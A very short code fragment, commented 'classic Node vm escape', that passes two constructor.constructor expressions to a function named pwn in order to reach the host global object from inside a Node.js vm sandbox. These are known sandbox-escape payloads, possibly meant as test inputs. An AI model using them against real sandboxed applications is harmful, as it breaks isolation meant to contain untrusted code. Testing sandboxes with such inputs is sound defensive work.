// classic Node vm escape
pwn(globalThis.constructor.constructor('return globalThis')()); pwn(Object.getPrototypeOf(globalThis).constructor.constructor('return this')());
